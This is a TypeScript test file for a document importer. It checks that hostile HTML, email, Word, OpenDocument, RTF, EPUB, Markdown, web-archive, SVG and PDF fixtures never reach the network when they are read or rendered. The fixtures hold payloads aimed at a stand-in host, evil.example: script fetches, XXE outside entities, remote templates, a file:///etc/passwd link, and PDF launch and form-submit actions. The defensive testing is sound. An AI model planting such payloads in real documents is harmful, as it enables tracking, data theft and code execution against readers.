import fs from 'node:fs';
import path from 'node:path';
import zlib from 'node:zlib';
import { BroadcastChannel } from 'node:worker_threads';
import { afterEach, beforeEach, expect, it } from 'vitest';
import { CaseError } from '../../../shared/errors.ts';
import { importers } from './importers.ts';
import { pageOf, readDocument } from './read.ts';
import { createIngest } from './ingest.ts';
import { line, makePdf } from './pdf/testing/make-pdf.ts';
import { cutNetwork } from './testing/no-network.ts';
import { dangersIn, misplacedWords } from './testing/reading.ts';
import { zipOf } from './testing/zip.ts';

const tried: string[] = [];
let restoreNetwork = (): void => undefined;
beforeEach(() => {
  tried.length = 0;
  restoreNetwork = cutNetwork((way) => tried.push(way));
});
afterEach(() => restoreNetwork());

const fixtures = path.join(import.meta.dirname, 'testing', 'fixtures');
const evil = '<p>Words.</p><img src="http://evil.example/a.gif"><link rel=stylesheet href="http://evil.example/s.css"><script src="http://evil.example/x.js">fetch("http://evil.example")</script><iframe src="http://evil.example"></iframe>';
const drawing = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="fetch(\'http://evil.example\')"><script href="http://evil.example/s.js">fetch("http://evil.example")</script><image href="http://evil.example/a.png"/><use xlink:href="http://evil.example/a.svg#a"/><foreignObject><img src="http://evil.example/b.gif"/></foreignObject><text>Words.</text></svg>';
const warc = (body: string) => `WARC/1.0\r\nWARC-Type: resource\r\nWARC-Target-URI: http://evil.example/\r\nContent-Type: text/html\r\nContent-Length: ${body.length}\r\n\r\n${body}\r\n\r\n`;
const outside = '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p; <!ENTITY a SYSTEM "http://evil.example/a">]>';
const mail = (body: string) => `From: a@x.example\r\nSubject: s\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n${body}`;
const external = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const docx = (before: string, more: string) => zipOf([
  { name: '[Content_Types].xml', content: '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>' },
  { name: '_rels/.rels', content: `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="${external}/officeDocument" Target="word/document.xml"/></Relationships>` },
  { name: 'word/_rels/document.xml.rels', content: `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="p1" Type="${external}/image" Target="http://evil.example/a.png" TargetMode="External"/><Relationship Id="p2" Type="${external}/image" Target="file:///etc/passwd" TargetMode="External"/><Relationship Id="t" Type="${external}/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>` },
  { name: 'word/document.xml', content: `${before}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${external}" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><w:body><w:p><w:r><w:t>Words.</w:t></w:r>${more}</w:p></w:body></w:document>` },
]);
const picture = (id: string) => `<w:r><w:drawing><wp:inline><a:graphic><a:graphicData><pic:pic><pic:blipFill><a:blip r:link="${id}"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>`;

const hostile: readonly { readonly what: string; readonly bytes: Buffer; readonly by: string }[] = [
  { what: 'a page that asks for everything', bytes: Buffer.from(`<!doctype html><base href="http://evil.example/">${evil}`), by: 'html' },
  { what: 'XHTML with an outside entity', bytes: Buffer.from(`<?xml version="1.0"?><!DOCTYPE html [<!ENTITY a SYSTEM "http://evil.example/a">]><html><body>&a; ${evil}</body></html>`), by: 'html' },
  { what: 'a message with tracking pictures', bytes: Buffer.from(mail(evil)), by: 'mail' },
  { what: 'a message whose body lies elsewhere', bytes: Buffer.from('From: a@x.example\r\nSubject: s\r\nMIME-Version: 1.0\r\nContent-Type: message/external-body; access-type=URL; URL="http://evil.example/x"\r\n\r\nContent-Type: text/plain\r\n\r\n'), by: 'mail' },
  { what: 'a saved page with outside parts', bytes: Buffer.from(`MIME-Version: 1.0\r\nSnapshot-Content-Location: http://evil.example/\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\nContent-Location: http://evil.example/\r\n\r\n${evil}\r\n--b--`), by: 'mhtml' },
  { what: 'a Word file with outside pictures and a template', bytes: docx('', picture('p1') + picture('p2')), by: 'docx' },
  { what: 'a Word file with outside entities', bytes: docx(outside, ''), by: 'docx' },
  { what: 'an OpenDocument text with outside pictures', bytes: zipOf([{ name: 'mimetype', content: 'application/vnd.oasis.opendocument.text' }, { name: 'content.xml', content: '<office:document-content xmlns:office="o" xmlns:text="t" xmlns:draw="d" xmlns:xlink="x"><office:body><office:text><text:p>Words.<draw:frame><draw:image xlink:href="http://evil.example/a.png"/></draw:frame><text:a xlink:href="javascript:alert(1)">x</text:a></text:p></office:text></office:body></office:document-content>' }]), by: 'odt' },
  { what: 'rich text with a template and fields', bytes: Buffer.from(String.raw`{\rtf1{\*\template http://evil.example/t.dotm}{\field{\*\fldinst INCLUDEPICTURE "http://evil.example/a.png"}{\fldrslt x}}{\object\objautlink\objupdate{\*\objdata 0105}}<img src=http://evil.example/> Words.\par}`), by: 'rtf' },
  { what: 'a book with outside parts', bytes: zipOf([{ name: 'META-INF/container.xml', content: '<container><rootfiles><rootfile full-path="b.opf"/></rootfiles></container>' }, { name: 'b.opf', content: '<package><manifest><item id="a" href="a.xhtml" media-type="application/xhtml+xml"/><item id="b" href="http://evil.example/b.xhtml" media-type="application/xhtml+xml"/></manifest><spine><itemref idref="a"/><itemref idref="b"/></spine></package>' }, { name: 'a.xhtml', content: `<html><body>${evil}</body></html>` }]), by: 'epub' },
  { what: 'Markdown with pictures and markup', bytes: Buffer.from(`# Words\n\n**b** ![x](http://evil.example/a.gif) [l](javascript:alert(1))\n\n${evil}`), by: 'markdown' },
  { what: 'a web archive of a page that asks', bytes: zlib.gzipSync(Buffer.from(warc(evil))), by: 'warc' },
  { what: 'a packaged web archive that names an address outside', bytes: zipOf([{ name: 'datapackage.json', content: '{"resources":[{"path":"http://evil.example/data.warc"}]}' }, { name: 'archive/data.warc', content: warc(evil) }, { name: 'pages/pages.jsonl', content: '{"format":"json-pages-1.0"}\n{"url":"http://evil.example/other"}\n' }]), by: 'wacz' },
  { what: 'a page with drawings that run', bytes: Buffer.from(`<!doctype html><p>Words.</p>${drawing}<img src="data:image/svg+xml;base64,${Buffer.from(drawing).toString('base64')}">`), by: 'html' },
  { what: 'a page that opens another one at once', bytes: Buffer.from('<!doctype html><meta http-equiv="refresh" content="0;url=http://evil.example/"><link rel="preload dns-prefetch preconnect" href="http://evil.example/"><p>Words.</p><a href="javascript:fetch(\'http://evil.example\')">x</a>'), by: 'html' },
  { what: 'a book with outside fonts and styles', bytes: zipOf([{ name: 'META-INF/container.xml', content: '<container><rootfiles><rootfile full-path="b.opf"/></rootfiles></container>' }, { name: 'b.opf', content: '<package><manifest><item id="a" href="a.xhtml" media-type="application/xhtml+xml" properties="remote-resources scripted"/><item id="f" href="http://evil.example/f.woff2" media-type="font/woff2"/><item id="s" href="s.css" media-type="text/css"/></manifest><spine><itemref idref="a"/></spine></package>' }, { name: 's.css', content: '@import url(http://evil.example/x.css); @font-face { font-family: f; src: url(http://evil.example/f.woff2) }' }, { name: 'a.xhtml', content: `<html><head><link rel="stylesheet" href="s.css"/><link rel="stylesheet" href="http://evil.example/y.css"/></head><body>${evil}${drawing}</body></html>` }]), by: 'epub' },
  { what: 'a PDF that runs, launches and calls', bytes: makePdf({
    pages: [{ content: `${line('Words.', 72, 700)}\nq 100 0 0 100 0 0 cm /Im1 Do Q`, entries: '/AA << /O << /S /URI /URI (http://evil.example/) >> >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (http://evil.example/x.exe) >> >> << /Type /Annot /Subtype /Screen /Rect [0 0 9 9] /A << /S /GoToR /F (http://evil.example/x.pdf) /D [0 /Fit] >> >>]' }],
    catalog: '/OpenAction << /S /JavaScript /JS (app.launchURL\\("http://evil.example/"\\); this.submitForm\\("http://evil.example/"\\)) >> /URI << /Base (http://evil.example/) >> /AcroForm << /Fields [] /XFA (<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><x src="http://evil.example/"/></xdp:xdp>) >> /Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /FS /URL /F (http://evil.example/a.exe) >>] >> >>',
    objects: ['<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /Length 0 /F << /FS /URL /F (http://evil.example/a.gif) >> >>\nstream\n\nendstream'],
  }), by: 'pdf' },
];

/** Reads a file and lays it out; what can't be read is refused in words. */
async function readAll(bytes: Uint8Array): Promise<{ extractor: string } | CaseError> {
  const file = { name: 'file.bin', bytes };
  try {
    const { extractor, text, textSha256 } = await readDocument(file, () => undefined);
    if (importers.find(({ name }) => name === extractor)?.page) {
      const { html } = await pageOf({ file, extractor, textSha256 });
      expect(dangersIn(html)).toEqual([]);
      expect(misplacedWords(text, html)).toEqual([]);
    }
    return { extractor };
  } catch (error) {
    if (error instanceof CaseError) return error;
    throw error;
  }
}

it.each(hostile)('$what asks for nothing', async ({ bytes, by }) => {
  expect(importers.find(({ accepts }) => accepts({ name: 'file.bin', bytes }))?.name).toBe(by);
  await readAll(bytes);
  expect(tried).toEqual([]);
});

it('every importer of pages has met a hostile file', () => {
  expect(new Set(hostile.map(({ by }) => by))).toEqual(new Set(['pdf', ...importers.filter(({ page }) => page !== undefined).map(({ name }) => name)]));
});

it('what is damaged anywhere is read or refused in words', async () => {
  const whole = [...fs.readdirSync(fixtures).map((name) => fs.readFileSync(path.join(fixtures, name))), ...hostile.map(({ bytes }) => bytes)];
  let seed = 7;
  const random = (below: number) => {
    seed = (seed * 1_103_515_245 + 12_345) % 2_147_483_648;
    return seed % below;
  };
  for (const bytes of whole) {
    for (let round = 0; round < 12; round++) {
      const damaged = Buffer.from(bytes.subarray(0, round % 3 === 0 ? random(bytes.length) + 1 : bytes.length));
      for (let hits = 0; hits < 1 + (round % 4) * 4; hits++) damaged[random(damaged.length)] = random(256);
      await readAll(damaged);
    }
  }
  expect(tried).toEqual([]);
}, 120_000);

it('the network would have been seen to be used', () => {
  expect(() => fetch('http://evil.example')).toThrow('fetch was called');
  expect(tried).toEqual(['fetch']);
});

it('nothing is asked for in the threads where documents are read, either', async () => {
  const ingest = createIngest(new URL('testing/no-network-worker.ts', import.meta.url));
  const inWorkers: unknown[] = [];
  const heard = Promise.withResolvers<undefined>();
  using channel = { port: new BroadcastChannel('ways-to-the-network'), [Symbol.dispose]() { this.port.close(); } };
  channel.port.onmessage = (event) => {
    inWorkers.push((event as { data: unknown }).data);
    heard.resolve(undefined);
  };
  const read = [];
  for (const { bytes } of hostile) {
    const file = { name: 'file.bin', bytes };
    try {
      const { extractor, textSha256 } = await ingest.read(file);
      read.push(extractor);
      if (importers.find(({ name }) => name === extractor)?.page) await ingest.page({ file, extractor, textSha256 });
    } catch (error) {
      // A reader that was stopped by the lack of a network would fail, and not refuse.
      expect(error).toMatchObject({ code: 'FILE_UNREADABLE', message: expect.not.stringContaining('failed on it') as string });
    }
  }
  expect(read.length).toBeGreaterThan(hostile.length / 2);
  expect(inWorkers).toEqual([]);
  // What asks is heard, so the silence before meant something.
  await expect(ingest.read({ name: 'file.bin', bytes: Buffer.from('<!doctype html><p>ASK THE NETWORK') })).rejects.toMatchObject({ code: 'FILE_UNREADABLE' });
  await heard.promise;
  expect(inWorkers).toContain('fetch');
}, 60_000);
